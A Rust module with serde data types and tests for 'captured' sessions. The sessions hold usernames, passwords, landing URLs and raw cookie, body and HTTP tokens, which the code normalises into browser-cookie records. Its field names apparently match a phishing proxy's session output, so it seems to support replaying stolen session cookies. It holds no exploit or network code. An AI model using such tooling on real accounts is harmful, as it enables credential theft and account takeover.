use serde::{Deserialize, Deserializer, Serialize, Serializer};
use std::fmt;

// ─── Canonical Token ──────────────────────────────────────────────

/// The normalized token record every source shape converges to.
///
/// `name` and `value` are always present; everything else is best-effort.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct Token {
    pub name: String,
    pub value: String,
    /// Cookie domain with a single leading `.` stripped.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub domain: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub path: Option<String>,
    #[serde(default)]
    pub host_only: bool,
    #[serde(default)]
    pub secure: bool,
    #[serde(default)]
    pub http_only: bool,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub same_site: Option<String>,
    #[serde(default)]
    pub is_session_token: bool,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub first_party_domain: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub partition_key: Option<OpaqueValue>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub store_id: Option<OpaqueValue>,
    /// Epoch seconds. Synthesized at extraction time, never echoed from input.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub expiration_date: Option<i64>,
}

impl Token {
    pub fn new(name: impl Into<String>, value: impl Into<String>) -> Self {
        Self {
            name: name.into(),
            value: value.into(),
            ..Self::default()
        }
    }
}

/// An uninterpreted JSON value carried through extraction untouched
/// (`partitionKey`, `storeId`).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(transparent)]
pub struct OpaqueValue(serde_json::Value);

impl OpaqueValue {
    /// Wrap a JSON value. `null` is treated as absent.
    pub fn from_json(value: &serde_json::Value) -> Option<Self> {
        if value.is_null() {
            None
        } else {
            Some(Self(value.clone()))
        }
    }

    pub fn as_json(&self) -> &serde_json::Value {
        &self.0
    }

    /// Raw encoded form.
    pub fn encoded(&self) -> String {
        self.0.to_string()
    }
}

// ─── Token Sources ────────────────────────────────────────────────

/// Named token source. Declaration order is consolidation order.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum TokenSourceKind {
    Session,
    Http,
    Body,
    Custom,
}

impl TokenSourceKind {
    pub const ALL: [Self; 4] = [Self::Session, Self::Http, Self::Body, Self::Custom];

    pub fn as_str(self) -> &'static str {
        match self {
            Self::Session => "session_tokens",
            Self::Http => "http_tokens",
            Self::Body => "body_tokens",
            Self::Custom => "custom_tokens",
        }
    }
}

impl fmt::Display for TokenSourceKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// One raw, not yet interpreted token payload (JSON text).
///
/// Deserializes from either a JSON string, taken verbatim as the raw text,
/// or any other JSON value, which is re-encoded.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct TokenSource(String);

impl TokenSource {
    pub fn new(raw: impl Into<String>) -> Self {
        Self(raw.into())
    }

    pub fn from_json(value: &serde_json::Value) -> Self {
        match value {
            serde_json::Value::String(raw) => Self(raw.clone()),
            serde_json::Value::Null => Self::default(),
            other => Self(other.to_string()),
        }
    }

    pub fn raw(&self) -> &str {
        &self.0
    }

    /// Blank text and a bare `null` both count as "nothing captured".
    pub fn is_empty(&self) -> bool {
        let trimmed = self.0.trim();
        trimmed.is_empty() || trimmed == "null"
    }
}

impl Serialize for TokenSource {
    fn serialize<S: Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        serializer.serialize_str(&self.0)
    }
}

impl<'de> Deserialize<'de> for TokenSource {
    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
        let value = serde_json::Value::deserialize(deserializer)?;
        Ok(Self::from_json(&value))
    }
}

/// The four token sources of one session.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct TokenSources {
    #[serde(default, alias = "cookie_tokens")]
    pub session_tokens: TokenSource,
    #[serde(default)]
    pub http_tokens: TokenSource,
    #[serde(default)]
    pub body_tokens: TokenSource,
    #[serde(default)]
    pub custom_tokens: TokenSource,
}

impl TokenSources {
    pub fn get(&self, kind: TokenSourceKind) -> &TokenSource {
        match kind {
            TokenSourceKind::Session => &self.session_tokens,
            TokenSourceKind::Http => &self.http_tokens,
            TokenSourceKind::Body => &self.body_tokens,
            TokenSourceKind::Custom => &self.custom_tokens,
        }
    }

    #[must_use]
    pub fn with(mut self, kind: TokenSourceKind, raw: impl Into<String>) -> Self {
        let source = TokenSource::new(raw);
        match kind {
            TokenSourceKind::Session => self.session_tokens = source,
            TokenSourceKind::Http => self.http_tokens = source,
            TokenSourceKind::Body => self.body_tokens = source,
            TokenSourceKind::Custom => self.custom_tokens = source,
        }
        self
    }

    /// Sources in consolidation order.
    pub fn iter(&self) -> impl Iterator<Item = (TokenSourceKind, &TokenSource)> {
        TokenSourceKind::ALL.into_iter().map(|kind| (kind, self.get(kind)))
    }

    pub fn is_empty(&self) -> bool {
        self.iter().all(|(_, source)| source.is_empty())
    }
}

// ─── Session ──────────────────────────────────────────────────────

/// A captured session as handed over by the caller. Not owned or stored here.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Session {
    pub id: String,
    #[serde(default)]
    pub username: String,
    #[serde(default)]
    pub password: String,
    #[serde(default)]
    pub landing_url: String,
    #[serde(default, alias = "useragent")]
    pub user_agent: String,
    #[serde(default)]
    pub remote_addr: String,
    /// Epoch seconds.
    #[serde(default)]
    pub create_time: i64,
    /// Epoch seconds.
    #[serde(default)]
    pub update_time: i64,
    #[serde(flatten)]
    pub tokens: TokenSources,
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn token_serializes_camel_case_and_omits_absent() {
        let mut token = Token::new("sid", "abc");
        token.domain = Some("example.com".into());
        token.http_only = true;
        token.expiration_date = Some(1_700_000_000);

        let json = serde_json::to_value(&token).expect("serialize");
        assert_eq!(json["name"], "sid");
        assert_eq!(json["domain"], "example.com");
        assert_eq!(json["httpOnly"], true);
        assert_eq!(json["isSessionToken"], false);
        assert_eq!(json["expirationDate"], 1_700_000_000);
        assert!(json.get("path").is_none());
        assert!(json.get("partitionKey").is_none());
        assert!(json.get("storeId").is_none());
    }

    #[test]
    fn opaque_value_null_is_absent() {
        assert!(OpaqueValue::from_json(&serde_json::Value::Null).is_none());
        let v = OpaqueValue::from_json(&serde_json::json!({"topLevelSite": "https://a.test"}))
            .expect("present");
        assert_eq!(v.encoded(), r#"{"topLevelSite":"https://a.test"}"#);
    }

    #[test]
    fn source_kind_order_and_names() {
        assert_eq!(
            TokenSourceKind::ALL,
            [
                TokenSourceKind::Session,
                TokenSourceKind::Http,
                TokenSourceKind::Body,
                TokenSourceKind::Custom
            ]
        );
        assert_eq!(TokenSourceKind::Http.to_string(), "http_tokens");
    }

    #[test]
    fn token_source_emptiness() {
        assert!(TokenSource::default().is_empty());
        assert!(TokenSource::new("  \n").is_empty());
        assert!(TokenSource::new("null").is_empty());
        assert!(!TokenSource::new("[]").is_empty());
        assert!(!TokenSource::new("not json").is_empty());
    }

    #[test]
    fn session_deserializes_string_and_value_sources() {
        let json = r#"{
            "id": "s-1",
            "username": "alice",
            "useragent": "Mozilla/5.0",
            "create_time": 1700000000,
            "cookie_tokens": {"example.com": {"sid": {"Name": "sid", "Value": "v"}}},
            "body_tokens": "[{\"token\":\"abc\"}]",
            "http_tokens": null
        }"#;
        let session: Session = serde_json::from_str(json).expect("deserialize");

        assert_eq!(session.id, "s-1");
        assert_eq!(session.user_agent, "Mozilla/5.0");
        assert_eq!(session.create_time, 1_700_000_000);
        assert_eq!(
            session.tokens.session_tokens.raw(),
            r#"{"example.com":{"sid":{"Name":"sid","Value":"v"}}}"#
        );
        assert_eq!(session.tokens.body_tokens.raw(), r#"[{"token":"abc"}]"#);
        assert!(session.tokens.http_tokens.is_empty());
        assert!(session.tokens.custom_tokens.is_empty());
    }

    #[test]
    fn token_sources_iterate_in_consolidation_order() {
        let sources = TokenSources::default()
            .with(TokenSourceKind::Custom, "[]")
            .with(TokenSourceKind::Session, "{}");
        let kinds: Vec<_> = sources
            .iter()
            .filter(|(_, s)| !s.is_empty())
            .map(|(k, _)| k)
            .collect();
        assert_eq!(kinds, vec![TokenSourceKind::Session, TokenSourceKind::Custom]);
        assert!(!sources.is_empty());
        assert!(TokenSources::default().is_empty());
    }
}
